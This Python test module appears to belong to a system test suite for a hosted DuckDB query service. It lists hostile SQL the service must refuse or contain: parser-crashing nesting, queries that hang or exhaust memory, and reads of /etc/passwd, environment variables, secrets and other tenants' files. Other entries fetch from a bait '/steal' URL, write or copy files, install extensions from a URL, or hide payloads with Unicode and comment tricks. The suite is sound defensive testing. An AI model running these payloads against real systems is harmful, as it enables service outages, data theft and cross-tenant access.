"""SQL of a caller that means harm: it would end the process, hold it, fill it, or look and reach where it must not."""

from __future__ import annotations

from collections.abc import Iterator

from tests.system.attack.attack import (
    ENDED,
    ERROR,
    NOT_ALLOWED,
    OK,
    TOO_LARGE,
    Attack,
    query,
)
from tests.system.attack.scene import Scene

DEEP = "repeat(repeat('[', 1000), 100) || repeat(repeat(']', 1000), 100)"
DEEP_OBJECT = "repeat(repeat('{\"a\":', 1000), 100) || '1' || repeat(repeat('}', 1000), 100)"
KILLED = (*ENDED, ERROR, NOT_ALLOWED)
"""Refused, stopped or crashed by itself: all the same to everybody else."""


def _doubled(levels: int) -> str:
    return ", ".join(f"a{i} || a{i} AS a{i + 1}" for i in range(levels))


def _ctes(levels: int) -> str:
    return "WITH c0 AS (SELECT 1 AS x)" + "".join(
        f", c{i + 1} AS (SELECT * FROM c{i} UNION ALL SELECT * FROM c{i})" for i in range(levels)
    )


DEEP_VALUES = {
    "json_structure of 100,000 levels": f"SELECT json_structure({DEEP})",
    "json_structure of 100,000 objects": f"SELECT json_structure({DEEP_OBJECT})",
    "from_json by a schema of 9,000 levels": f"SELECT from_json({DEEP}, repeat('[', 9000) || '\"INT\"' || repeat(']', 9000))",
    "from_json of deep objects": f'SELECT from_json({DEEP_OBJECT}, \'{{"a": "JSON"}}\')',
    "json_transform by a deep schema": "SELECT json_transform('[]', repeat('[', 9999) || '\"INT\"' || repeat(']', 9999))",
    "json_contains on a million levels": "SELECT json_contains(repeat(repeat('[', 1000), 999) || repeat(repeat(']', 1000), 999), '1')",
    "json_merge_patch of itself": f"SELECT json_merge_patch(x, x) FROM (SELECT {DEEP_OBJECT} AS x)",
    "a cast to VARIANT": f"SELECT ({DEEP})::JSON::VARIANT::VARCHAR",
    "a cast of deep objects to VARIANT": f"SELECT ({DEEP_OBJECT})::JSON::VARIANT",
    "json_extract of everything below": f"SELECT json_extract({DEEP}, '$..*')",
    "json_pretty of 100,000 levels": f"SELECT length(json_pretty({DEEP}))",
    "json_keys of deep objects": f"SELECT json_keys({DEEP_OBJECT})",
    "json_group_structure": f"SELECT json_group_structure({DEEP}) FROM t",
    "json_valid of deep brackets": f"SELECT json_valid({DEEP})",
    "a cast to JSON[][]": f"SELECT ({DEEP})::JSON[][]",
    "a text cast to a deep list": "SELECT (repeat('[', 5000) || repeat(']', 5000))::INT" + "[]" * 500,
    "a type of 3,000 levels": "SELECT NULL::INT" + "[]" * 3000,
    "a struct type of 900 levels": "SELECT NULL::" + "STRUCT(a " * 900 + "INT" + ")" * 900,
    "30,000 brackets of a list": "SELECT " + "[" * 15000 + "]" * 15000,
    "40,000 parentheses": "SELECT " + "(" * 20000 + "1" + ")" * 20000,
    "20,000 minus signs": "SELECT " + "- " * 20000 + "1",
    "20,000 times NOT": "SELECT " + "NOT " * 20000 + "true",
    "a sum of 30,000 terms": "SELECT " + "+".join(["1"] * 30000),
    "an OR of 9,000 terms": "SELECT count(*) FROM t WHERE " + " OR ".join(f"id={i}" for i in range(9000)),
    "3,000 nested CASE": "SELECT " + "CASE WHEN true THEN " * 3000 + "1" + " END" * 3000,
    "900 subqueries in one another": "SELECT * FROM " + "(SELECT * FROM " * 900 + "t" + ") AS s" * 900,
    "5,000 UNION ALL": " UNION ALL ".join(["SELECT 1"] * 5000),
    "700 lambdas in one another": "SELECT "
    + "".join(f"list_transform([1], lambda x{i}: " for i in range(700))
    + "1"
    + ")" * 700,
    "a cast chain of 4,000": "SELECT 1" + "::INT::VARCHAR" * 4000,
    "5,000 dots": "SELECT t" + ".a" * 5000 + " FROM t",
}
HOLDS = {
    "LIKE with 4,000 wildcards": "SELECT count(*) FROM range(100000) WHERE repeat('a', 9000) || range LIKE repeat('%a', 4000) || 'b%c'",
    "NOT ILIKE with wildcards": "SELECT count(*) FROM range(100000) WHERE repeat('a', 9000) || range NOT ILIKE repeat('%a_', 3000) || 'b%c'",
    "GLOB with 40 stars": "SELECT repeat('a', 1000) || range GLOB repeat('*a', 40) || 'b' FROM range(100)",
    "SIMILAR TO with nested stars": "SELECT count(*) FROM range(1000000) WHERE repeat('a', 9000) || range SIMILAR TO '((a*)*)*b'",
    "regexp_matches with bounded repeats": "SELECT count(*) FROM range(1000000) WHERE regexp_matches(repeat('a', 9000) || range, '(a{1,30}){1,30}b')",
    "regexp_replace of everything": "SELECT sum(length(regexp_replace(repeat('a', 9000) || range, '', repeat('b', 9000), 'g'))) FROM range(100000)",
    "levenshtein of 100,000 characters": "SELECT levenshtein(repeat(repeat('ab', 5000), 10), repeat(repeat('cd', 5000), 10))",
    "damerau_levenshtein of 90,000": "SELECT damerau_levenshtein(repeat(repeat('ab', 5000), 9), repeat(repeat('cd', 5000), 9))",
    "jaro_winkler_similarity of 100,000": "SELECT jaro_winkler_similarity(repeat(repeat('ab', 5000), 10), repeat(repeat('ba', 5000), 10))",
    "jaro_similarity per row": "SELECT sum(jaro_similarity(repeat('ab', 5000), repeat('ba', 4999) || range)) FROM range(100000)",
    "jaccard per row": "SELECT sum(jaccard(repeat('ab', 5000), repeat('ba', 5000) || range)) FROM range(1000000)",
    "editdist3 of 100,000": "SELECT editdist3(repeat(repeat('ab', 5000), 10), repeat(repeat('cd', 5000), 10))",
    "40 aliases that double a number": "SELECT 1 AS a0, " + ", ".join(f"a{i} + a{i} AS a{i + 1}" for i in range(40)),
    "49,000 select items": "SELECT " + ",".join(["1"] * 49000),
    "24,000 columns of the table": "SELECT " + ",".join(["id"] * 24000) + " FROM t",
    "5,000 times a star": "SELECT " + ",".join(["*"] * 5000) + " FROM t",
    "900 self-joins": "SELECT count(*) FROM t" + "".join(f", t AS t{i}" for i in range(900)),
    "14 self-joins on inequality": "SELECT count(*) FROM t"
    + "".join(f" JOIN t AS t{i} ON t.id <> t{i}.id" for i in range(14)),
    "300 natural joins": "SELECT count(*) FROM t" + "".join(f" NATURAL JOIN t AS t{i}" for i in range(300)),
    "200 left joins": "SELECT count(*) FROM t" + "".join(f" LEFT JOIN t AS t{i} ON t{i}.id = t.id" for i in range(200)),
    "60 lateral joins": "SELECT count(*) FROM t"
    + "".join(f", LATERAL (SELECT t.id + {i} AS c{i}) AS l{i}" for i in range(60)),
    "30 CTEs that double": _ctes(30) + " SELECT count(*) FROM c30",
    "60 CTEs that double": _ctes(60) + " SELECT 1 FROM c60 LIMIT 1",
    "a CTE that never ends": "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n FROM r) SELECT count(*) FROM r",
    "a CTE that grows": "WITH RECURSIVE r(n) AS (SELECT 'x' UNION ALL SELECT n || n FROM r) SELECT max(length(n)) FROM r",
    "a CTE of pairs": "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT a.n + 1 FROM r AS a, (VALUES (1), (2)) AS v) SELECT count(*) FROM r",
    "a count of 10^15 rows": "SELECT sum(a.range * b.range) FROM range(100000000) AS a, range(10000000) AS b",
    "a range of 10^18": "SELECT count(*) FROM range(1000000000000000000) WHERE range % 7 = 3 AND hash(range) = 0",
    "a sort of 10^9 rows": "SELECT * FROM range(1000000000) ORDER BY hash(range) LIMIT 1 OFFSET 999999",
    "10^9 distinct texts": "SELECT count(DISTINCT md5(range::VARCHAR)) FROM range(1000000000)",
    "windows over 10^8 rows": "SELECT max(s) FROM (SELECT sum(range) OVER (ORDER BY hash(range) ROWS BETWEEN 1000000 PRECEDING AND CURRENT ROW) AS s FROM range(100000000))",
    "a quantile of a growing frame": "SELECT max(q) FROM (SELECT mad(range) OVER (ORDER BY range) AS q FROM range(1000000))",
    "a correlated subquery per row": "SELECT sum((SELECT count(*) FROM range(100000) AS b WHERE b.range % (a.range + 1) = 0)) FROM range(100000) AS a",
    "a cube of 20 columns": "SELECT count(*) FROM (SELECT 1 FROM (SELECT "
    + ",".join(f"range % {i + 2} AS c{i}" for i in range(20))
    + " FROM range(100)) GROUP BY CUBE ("
    + ",".join(f"c{i}" for i in range(20))
    + "))",
    "a cube of 11 columns": "SELECT count(*) FROM (SELECT 1 FROM (SELECT "
    + ",".join(f"range % {i + 2} AS c{i}" for i in range(11))
    + " FROM range(20000)) GROUP BY CUBE ("
    + ",".join(f"c{i}" for i in range(11))
    + "))",
    "a pivot of 100,000 values": "SELECT * FROM (PIVOT (SELECT range AS r FROM range(100000)) ON r USING count(*))",
    "factorial of everything": "SELECT sum(factorial((range % 33)::INT)) FROM range(100000000000)",
    "gen_random_uuid for ever": "SELECT max(gen_random_uuid()) FROM range(100000000000)",
    "sha256 of long texts": "SELECT max(sha256(repeat('x', 10000) || range)) FROM range(100000000)",
    "strptime by 1,000 formats": "SELECT count(*) FROM range(10000000) WHERE try_strptime(range::VARCHAR, ["
    + ",".join(f"'%Y-%m-%d {i}'" for i in range(1000))
    + "]) IS NULL",
    "nested list_reduce": "SELECT list_reduce(range(9999), lambda x, y: x + list_sum(list_transform(range(9999), lambda z: z * y)))",
}
FILLS = {
    "repeat of repeat of repeat": "SELECT length(repeat(repeat(repeat('x', 10000), 10000), 25))",
    "replace by long texts": "SELECT length(replace(replace(repeat('x', 9999), 'x', repeat('y', 9999)), 'y', repeat('z', 40)))",
    "translate, then replace": "SELECT length(replace(repeat(repeat('x', 9999), 999), 'x', repeat('y', 999)))",
    "bitstring of bitstrings": "SELECT sum(bit_count(bitstring(range::VARCHAR, 10000))) FROM range(100000000)",
    "a bitstring_agg as wide as it goes": "SELECT bitstring_agg(v, -9000000000000, 9000000000000) FROM (VALUES (1), (2)) AS x(v)",
    "list_transform of list_transform": "SELECT length(list_transform(range(9999), lambda x: list_transform(range(9999), lambda y: x)))",
    "flatten of lists of lists": "SELECT length(flatten(list_transform(range(9999), lambda x: range(9999))))",
    "error of a hundred megabytes": "SELECT error(repeat(repeat(repeat('a', 10000), 10000), 2))",
    "error of nested quotes": "SELECT error(repeat(repeat('''', 10000), 900))",
    "error of dots and slashes": "SELECT error(repeat(repeat('/a.b@0x7f', 10000), 99))",
    "error of LINE 1": "SELECT error(repeat(repeat('LINE 1: x ^ ', 5000), 200))",
    "a cast whose message is long": "SELECT repeat(repeat('a', 10000), 900)::INT",
    "27 aliases that double a text": f"SELECT 'x' AS a0, {_doubled(27)}",
    "array_agg of everything": "SELECT length(array_agg(repeat('x', 9000) || range)) FROM range(10000000)",
    "string_agg of everything": "SELECT length(string_agg(repeat('x', 9000) || range, '')) FROM range(10000000)",
    "histogram of everything": "SELECT length(histogram(md5(range::VARCHAR))::VARCHAR) FROM range(50000000)",
    "map of ten million keys": "SELECT cardinality(map(range(0, 9999), list_transform(range(9999), lambda x: repeat('x', 9999))))",
    "json_group_array of everything": "SELECT length(json_group_array(repeat('x', 9000))) FROM range(10000000)",
    "mode of ten million": "SELECT mode(md5(range::VARCHAR)) FROM range(50000000)",
    "quantiles of a billion": "SELECT quantile_cont(range, [0.1, 0.5]) FROM range(1000000000)",
    "approx_quantile by a list of 9,999": "SELECT length(approx_quantile(range, list_transform(range(9999), lambda x: x / 9999.0))) FROM range(1000)",
    "a cross product sorted": "SELECT a.range FROM range(100000) AS a, range(100000) AS b ORDER BY hash(a.range + b.range) LIMIT 1 OFFSET 9000000",
    "a hash join that explodes": "SELECT count(*) FROM (SELECT repeat('k', 9000) || range % 2 AS k FROM range(1000000)) AS a JOIN (SELECT repeat('k', 9000) || range % 2 AS k FROM range(1000000)) AS b USING (k)",
    "lpad of a long pad": "SELECT sum(length(lpad('', 10000, repeat(repeat('x', 10000), 100)))) FROM range(100000000)",
    "printf with widths": "SELECT sum(length(printf('%9999d', range))) FROM range(100000000)",
    "format with widths": "SELECT sum(length(format('{:9999d}', range))) FROM range(100000000)",
    "to_base with a width": "SELECT length(to_base(1, 2, 2000000000))",
    "list_resize of list_resize": "SELECT length(list_resize([list_resize([1], 9999, 1)], 9999, list_resize([1], 9999, 1)))",
    "encode of a hundred megabytes": "SELECT hex(encode(repeat(repeat('x', 10000), 10000)))",
    "base64 of base64": "SELECT length(base64(base64(repeat(repeat('x', 10000), 9000)::BLOB)::BLOB))",
    "url_encode of percent signs": "SELECT length(url_encode(url_encode(repeat(repeat('%', 10000), 3000))))",
    "regexp_extract_all of nothing": "SELECT length(regexp_extract_all(repeat(repeat('a', 10000), 3000), ''))",
    "string_split by nothing": "SELECT length(string_split(repeat(repeat('a', 10000), 9000), ''))",
    "a window that keeps lists": "SELECT max(length(l)) FROM (SELECT array_agg(range) OVER (ORDER BY range) AS l FROM range(300000))",
    "generate_subscripts of a long list": "SELECT count(*) FROM (SELECT generate_subscripts(list_transform(range(9999), lambda x: range(9999)), 1) FROM range(10000))",
    "unnest of unnest": "SELECT count(*) FROM (SELECT unnest(range(9999)) AS a, unnest(range(9999)) AS b FROM (SELECT unnest(range(9999))))",
}
ANSWERS = {
    "ten million long texts": "SELECT repeat('x', 10000) AS a, repeat('y', 10000) AS b FROM range(10000000)",
    "one text of 100 MB": "SELECT repeat(repeat('x', 10000), 9999)",
    "one text of 200 MB": "SELECT repeat(repeat('x', 10000), 9999) || repeat(repeat('x', 10000), 9999)",
    "one list of a million texts": "SELECT list_transform(range(9999), lambda x: list_transform(range(99), lambda y: 'xxxxxxxxxxxx'))",
    "a column name of 90,000 characters": 'SELECT 1 AS "' + "n" * 90_000 + '"',
    "a map with odd keys": "SELECT map(list_transform(range(9999), lambda x: repeat('k', 999) || x), range(9999))",
    "JSON in JSON in JSON": "SELECT " + "to_json(" * 40 + "'\\\"'" + ")" * 40,
    "a hundred blobs of a megabyte": "SELECT repeat(repeat('x', 10000), 100)::BLOB FROM range(100)",
}
ODD_ANSWERS = {
    "NaN and infinities": "SELECT 'nan'::DOUBLE AS a, 'inf'::DOUBLE AS b, '-inf'::FLOAT AS c",
    "a huge integer": "SELECT 170141183460469231731687303715884105727::HUGEINT AS h, 18446744073709551615::UBIGINT AS u",
    "two columns of one name": 'SELECT 1 AS a, 2 AS a, 3 AS "A", 4 AS ""',
    "dates beyond the calendar": "SELECT '290309-12-22 (BC)'::DATE AS d, 'infinity'::DATE AS i",
    "timestamps beyond the calendar": "SELECT '-infinity'::TIMESTAMP AS a, 'infinity'::TIMESTAMPTZ AS b, '294247-01-10'::TIMESTAMP AS c",
    "an interval": "SELECT INTERVAL '999999999 years' AS i",
    "bits, and a time with a zone": "SELECT '0101'::BIT AS b, '05:00:00+15'::TIMETZ AS z",
    "a union and an enum": "SELECT union_value(a := 1) AS u, 'x'::ENUM('x', 'y') AS e",
    "NUL and control characters": "SELECT chr(0) AS a, chr(27) || chr(7) AS b, chr(8238) AS c",
    "a struct without fields": "SELECT row() AS a",
    "an empty list of NULL": "SELECT [] AS a, NULL AS b, [[NULL]] AS c, map([], []) AS d",
    "a time of 24:00": "SELECT '24:00:00'::TIME AS t, 'epoch'::TIMESTAMP_NS AS n",
    "a decimal of 38 digits": "SELECT 99999999999999999999999999999999999999::DECIMAL(38,0) AS d",
    "__proto__ as a name": 'SELECT 1 AS "__proto__", 2 AS "constructor", 3 AS "<script>"',
    "a blob that is no text": "SELECT '\\xFF\\xFE\\x00'::BLOB AS b",
    "a surrogate by chr": "SELECT chr(55296) AS s",
}


def _reaching(scene: Scene) -> Iterator[tuple[str, str]]:
    """SQL that would read files, settings or the network."""
    bait, victim, own = scene.bait / "secret.csv", scene.victim_file, scene.own_file
    url = f"http://127.0.0.1:{scene.bait_port}/steal"
    yield "read_csv of a file", f"SELECT * FROM read_csv('{bait}')"
    yield "read_text of /etc/passwd", "SELECT * FROM read_text('/etc/passwd')"
    yield "read_blob of the environment", "SELECT * FROM read_blob('/proc/self/environ')"
    yield "read_json of a file", f"SELECT * FROM read_json('{scene.bait / 'secret.json'}')"
    yield "read_parquet of the victim's file", f"SELECT * FROM read_parquet('{victim}')"
    yield "read_parquet of one's own file", f"SELECT * FROM read_parquet('{own}')"
    yield "a file as a table", f"SELECT * FROM '{bait}'"
    yield "the victim's file as a table", f"SELECT * FROM '{victim}'"
    yield "a quoted file as a table", f'SELECT * FROM "{bait}"'
    yield "a file as a table, in a subquery", f"SELECT (SELECT max(name) FROM '{bait}')"
    yield "a file in a CTE", f"WITH x AS (SELECT * FROM '{bait}') SELECT * FROM x"
    yield "a file in EXISTS", f"SELECT 1 FROM t WHERE EXISTS (SELECT 1 FROM '{bait}')"
    yield "a file in a lateral join", f"SELECT * FROM t, LATERAL (SELECT * FROM '{bait}') AS x"
    yield "a file in a UNION", f"SELECT name FROM t UNION SELECT name FROM '{bait}'"
    yield "a file in a PIVOT", f"SELECT * FROM (PIVOT '{bait}' ON name USING count(*))"
    yield "a URL as a table", f"SELECT * FROM '{url}.csv'"
    yield "read_csv of a URL", f"SELECT * FROM read_csv('{url}')"
    yield "read_parquet from S3", "SELECT * FROM read_parquet('s3://bucket/x.parquet')"
    yield "glob of the warehouse", f"SELECT * FROM glob('{scene.warehouse}/**')"
    yield "parquet_metadata", f"SELECT * FROM parquet_metadata('{victim}')"
    yield "parquet_schema", f"SELECT * FROM parquet_schema('{own}')"
    yield "parquet_kv_metadata", f"SELECT * FROM parquet_kv_metadata('{victim}')"
    yield "sniff_csv", f"SELECT * FROM sniff_csv('{bait}')"
    yield "iceberg_scan", f"SELECT * FROM iceberg_scan('{victim.parent.parent}')"
    yield "sqlite_scan of the catalog", f"SELECT * FROM sqlite_scan('{scene.home}/catalog.db', 'iceberg_tables')"
    yield "postgres_scan", f"SELECT * FROM postgres_scan('host=127.0.0.1 port={scene.bait_port}', 'a', 'b')"
    yield "getenv", "SELECT getenv('CANARY')"
    yield "current_setting", "SELECT current_setting('temp_directory')"
    yield "duckdb_settings", "SELECT * FROM duckdb_settings()"
    yield "duckdb_secrets", "SELECT * FROM duckdb_secrets()"
    yield "which_secret", "SELECT * FROM which_secret('s3://bucket/x', 's3')"
    yield "duckdb_tables", "SELECT * FROM duckdb_tables()"
    yield "duckdb_views, quoted", 'SELECT * FROM "duckdb_views"()'
    yield "duckdb_functions", "SELECT * FROM duckdb_functions()"
    yield "duckdb_extensions", "SELECT * FROM duckdb_extensions()"
    yield "duckdb_memory", "SELECT * FROM duckdb_memory()"
    yield "duckdb_temporary_files", "SELECT * FROM duckdb_temporary_files()"
    yield "duckdb_logs", "SELECT * FROM duckdb_logs()"
    yield "information_schema.tables", "SELECT * FROM information_schema.tables"
    yield "information_schema, quoted", 'SELECT * FROM "information_schema"."columns"'
    yield "pg_catalog.pg_class", "SELECT * FROM pg_catalog.pg_class"
    yield "pg_class without a schema", "SELECT * FROM pg_class"
    yield "sqlite_master", "SELECT * FROM sqlite_master"
    yield "pragma_table_info", "SELECT * FROM pragma_table_info('t')"
    yield "query()", f"SELECT * FROM query('SELECT * FROM ''{bait}''')"
    yield "query_table()", f"SELECT * FROM query_table('{victim}')"
    yield "another schema's t", "SELECT * FROM memory.main.t"
    yield "the temp schema", "SELECT * FROM temp.main.t"
    yield "nextval", "SELECT nextval('s')"
    yield "getvariable", "SELECT getvariable('x')"
    yield "write_log", "SELECT write_log('x')"
    yield "sleep_ms", "SELECT sleep_ms(100000)"
    yield "pg_sleep", "SELECT pg_sleep(100)"
    yield "current_database", "SELECT current_database()"
    yield "pg_get_viewdef", "SELECT pg_get_viewdef(0)"
    yield "txid_current", "SELECT txid_current()"
    yield "in_search_path", "SELECT in_search_path('memory', 'main')"
    yield "test_all_types", "SELECT * FROM test_all_types()"
    yield "repeat_row", "SELECT * FROM repeat_row(1, num_rows = 1000000000000)"
    yield "summary of a subquery", "SELECT * FROM summary((SELECT 1))"
    yield "checkpoint()", "SELECT * FROM force_checkpoint()"
    yield "json_execute_serialized_sql", "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))"
    yield "json_serialize_plan", "SELECT json_serialize_plan('SELECT 1')"
    yield "read_duckdb", f"SELECT * FROM read_duckdb('{scene.home}/catalog.db')"
    yield "arrow_scan by an address", "SELECT * FROM arrow_scan(140000000000000, 140000000000000, 140000000000000)"
    yield "pandas_scan by an address", "SELECT * FROM pandas_scan(140000000000000)"
    yield "python_map_function", "SELECT * FROM python_map_function((SELECT 1), NULL, NULL)"
    yield "a replacement scan of Python", "SELECT * FROM question"
    yield "a Python module as a table", "SELECT * FROM os"
    yield "the victim's table by its name", "SELECT * FROM orders"
    yield "the victim's table by its full name", "SELECT * FROM victim__default.orders"
    yield "one's other table", "SELECT * FROM spare"
    yield "a dot call of read_text", "SELECT * FROM ('/etc/passwd').read_text()"
    yield "a call by another schema", "SELECT pg_catalog.current_setting('x')"
    yield "a call by the catalog's name", "SELECT system.main.getvariable('x')"
    yield "a list function by its name", "SELECT list_aggregate([1], 'getvariable')"
    yield "AT a time", "SELECT * FROM t AT (VERSION => 1)"


def _writing(scene: Scene) -> Iterator[tuple[str, str]]:
    """Statements that are no SELECT, or hold one that is none."""
    bait, own = scene.bait, scene.own_file
    yield "COPY to a file", f"COPY t TO '{bait}/out.csv'"
    yield "COPY over one's own file", f"COPY (SELECT 1) TO '{own}'"
    yield "COPY from a file", f"COPY t FROM '{bait}/secret.csv'"
    yield "COPY after a SELECT", f"SELECT 1; COPY t TO '{bait}/out.csv'"
    yield "ATTACH of the catalog", f"ATTACH '{scene.home}/catalog.db' AS c (TYPE sqlite)"
    yield "ATTACH of the warehouse", f"ATTACH '{bait}/x.db'"
    yield "DETACH", "DETACH memory"
    yield "USE", "USE temp"
    yield "PRAGMA database_list", "PRAGMA database_list"
    yield "PRAGMA with a value", "PRAGMA memory_limit='64GB'"
    yield "SET memory_limit", "SET memory_limit = '64GB'"
    yield "SET lock_configuration", "SET lock_configuration = false"
    yield "SET VARIABLE from a file", f"SET VARIABLE x = (SELECT name FROM '{bait}/secret.csv')"
    yield "RESET", "RESET enable_external_access"
    yield "INSTALL", "INSTALL httpfs"
    yield "INSTALL from a URL", f"INSTALL x FROM 'http://127.0.0.1:{scene.bait_port}'"
    yield "LOAD of a path", f"LOAD '{bait}/x.duckdb_extension'"
    yield "CREATE TABLE AS", "CREATE TABLE x AS SELECT 1"
    yield "CREATE VIEW", "CREATE OR REPLACE VIEW t AS SELECT 1"
    yield "CREATE MACRO", "CREATE MACRO f(x) AS x"
    yield "CREATE SECRET", "CREATE SECRET (TYPE s3, PROVIDER credential_chain)"
    yield "DROP VIEW", "DROP VIEW t"
    yield "DELETE", "DELETE FROM t"
    yield "INSERT", "INSERT INTO t VALUES (1)"
    yield "UPDATE", "UPDATE t SET id = 1"
    yield "MERGE", "MERGE INTO t USING t AS s ON false WHEN MATCHED THEN DELETE"
    yield "EXPORT DATABASE", f"EXPORT DATABASE '{bait}/out'"
    yield "IMPORT DATABASE", f"IMPORT DATABASE '{bait}'"
    yield "CALL", "CALL pragma_version()"
    yield "EXPLAIN ANALYZE", "EXPLAIN ANALYZE SELECT * FROM t"
    yield "PREPARE", "PREPARE p AS SELECT 1"
    yield "EXECUTE", "EXECUTE p"
    yield "VACUUM", "VACUUM"
    yield "CHECKPOINT", "CHECKPOINT"
    yield "BEGIN", "BEGIN TRANSACTION"
    yield "SHOW ALL TABLES", "SHOW ALL TABLES"
    yield "SHOW DATABASES", "SHOW DATABASES"
    yield "SHOW of a file", f"SHOW '{bait}/secret.csv'"
    yield "DESCRIBE of a file", f"DESCRIBE '{bait}/secret.csv'"
    yield "SUMMARIZE of a file", f"SUMMARIZE SELECT * FROM '{bait}/secret.csv'"
    yield "two SELECTs", "SELECT 1; SELECT 2"
    yield "DELETE in a CTE", "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x"
    yield "SELECT INTO", "SELECT 1 INTO x"
    yield "FOR UPDATE", "SELECT * FROM t FOR UPDATE"


SCOPES = {
    "a CTE named like a catalog view, unused": "SELECT * FROM duckdb_settings",
    "a CTE that hides a view": "WITH duckdb_tables AS (SELECT 1) SELECT * FROM duckdb_tables",
    "a CTE used outside of its subquery": "SELECT * FROM (WITH pg_class AS (SELECT 1) SELECT 1), pg_class",
    "a CTE that sees one after it": "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
    "a CTE that sees itself": "WITH a AS (SELECT * FROM a) SELECT * FROM a",
    "a CTE by a schema": "WITH a AS (SELECT 1) SELECT * FROM main.a",
    "a CTE in upper case": "WITH Pg_Tables AS (SELECT 1) SELECT * FROM PG_TABLES",
    "a name beside a recursive CTE": "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n FROM sqlite_master) SELECT * FROM r",
    "a CTE in a set operation": "(WITH x AS (SELECT 1) SELECT * FROM x) UNION SELECT * FROM x",
    "a CTE in EXISTS, used outside": "SELECT * FROM t WHERE EXISTS (WITH z AS (SELECT 1) SELECT 1) AND id IN (SELECT 1 FROM z)",
    "USING KEY": "WITH RECURSIVE r(a, b) USING KEY (a) AS (SELECT 1, 2 UNION SELECT * FROM recurring.s) SELECT * FROM r",
}
TEXTS = {
    "comments in a keyword": "SEL/**/ECT 1",
    "COPY behind a comment": "-- SELECT\nCOPY t TO '/tmp/x'",
    "COPY in an unclosed comment": "SELECT 1 /* ; COPY t TO '/tmp/x'",
    "dollar quotes around a path": "SELECT * FROM read_text($$/etc/passwd$$)",
    "escapes around a path": "SELECT * FROM read_text(E'\\x2fetc/passwd')",
    "a full-width name": "SELECT * FROM \uff52\uff45\uff41\uff44_text('/etc/passwd')",
    "a name with a zero-width space": "SELECT * FROM read\u200b_text('/etc/passwd')",
    "no-break spaces": "SELECT\u00a0*\u00a0FROM\u00a0read_text('/etc/passwd')",
    "a dotless i": "SELECT * FROM p\u0131g_class",
    "a name in odd case": "SELECT * FROM ReAd_TeXt('/etc/passwd')",
    "a quoted function": "SELECT * FROM \"read_text\"('/etc/passwd')",
    "a NUL": "SELECT 1\0; DROP VIEW t",
    "an unclosed quote": "SELECT 'abc",
    "an unclosed identifier": 'SELECT "abc',
    "nothing": "",
    "spaces": "   ",
    "a semicolon": ";",
    "a parameter": "SELECT ?",
    "a named parameter": "SELECT $file",
    "a hundred thousand characters and one": "SELECT '" + "x" * 100_001 + "'",
    "half of a surrogate pair": "SELECT '\ud800'",
    "a right-to-left override": "SELECT \u202e1 FROM",
    "a byte order mark": "\ufeffCOPY t TO '/tmp/x'",
    "a division by zero": "SELECT 1 / 0 FROM t WHERE 1 = 'x'",
    "a column that is not there": "SELECT victim FROM t",
    "FROM first": "FROM read_text('/etc/passwd')",
    "a macro's name": "SELECT * FROM histogram_values(t, id)",
    "a positional reference": "SELECT #9999999999 FROM t",
    "a prefix alias": "SELECT x : read_text('/etc/passwd')",
    "COLUMNS by a killing pattern": "SELECT COLUMNS('((a*)*)*b') FROM t",
    "a lambda that reads": "SELECT list_transform(['/etc/passwd'], lambda f: read_text(f))",
    "TABLE of a view": "TABLE duckdb_settings",
    "VALUES that read": "VALUES ((SELECT content FROM read_text('/etc/passwd')))",
    "a sample by a huge size": "SELECT count(*) FROM t USING SAMPLE 99999999999999999999 ROWS",
}
REFUSED_TEXT = (NOT_ALLOWED, ERROR)


def attacks(scene: Scene) -> Iterator[Attack]:
    for part, found, allowed in (
        ("SQL: deep values", DEEP_VALUES, (OK, TOO_LARGE, *KILLED)),
        ("SQL: endless work", HOLDS, (OK, TOO_LARGE, *KILLED)),
        ("SQL: memory", FILLS, (OK, TOO_LARGE, *KILLED)),
        ("SQL: large answers", ANSWERS, (OK, TOO_LARGE, *KILLED)),
        ("SQL: odd answers", ODD_ANSWERS, (OK, ERROR)),
        ("SQL: scopes", SCOPES, REFUSED_TEXT),
        ("SQL: text", TEXTS, (*REFUSED_TEXT, "400 INVALID_FIELD", "400 MISSING_FIELD")),
    ):
        for name, sql in found.items():
            yield query(part, name, *allowed, sql=sql)
    for name, sql in _reaching(scene):
        yield query("SQL: reaching out", name, *REFUSED_TEXT, sql=sql)
    for name, sql in _writing(scene):
        yield query("SQL: no SELECT", name, *REFUSED_TEXT, sql=sql)
    yield from _together()


def _together() -> Iterator[Attack]:
    """Many at once: more than there are processes, and more than a tenant may.

    A query that ends its process has the next one wait for another. On a busy machine that may not have started when the
    next one's own time is over: a 503 to be repeated, which says so.
    """
    crowded = (*KILLED, "429 TOO_MANY_QUERIES", "429 TOO_MANY_OPERATIONS", "503 SERVER_BUSY", "503 ENGINE_UNAVAILABLE")
    for copies, name in ((12, "repeat of repeat of repeat"), (12, "bitstring of bitstrings")):
        yield query("SQL: many at once", f"{copies} times {name}", *crowded, copies=copies, sql=FILLS[name])
    endless = HOLDS["a count of 10^15 rows"]
    yield query("SQL: many at once", "30 times a count of 10^15 rows", *crowded, copies=30, sql=endless)
    yield query("SQL: many at once", "90 times a count of 10^15 rows", *crowded, copies=90, sql=endless)
    crash = DEEP_VALUES["json_structure of 100,000 levels"]
    yield query("SQL: many at once", "20 times json_structure", OK, *crowded, copies=20, sql=crash)
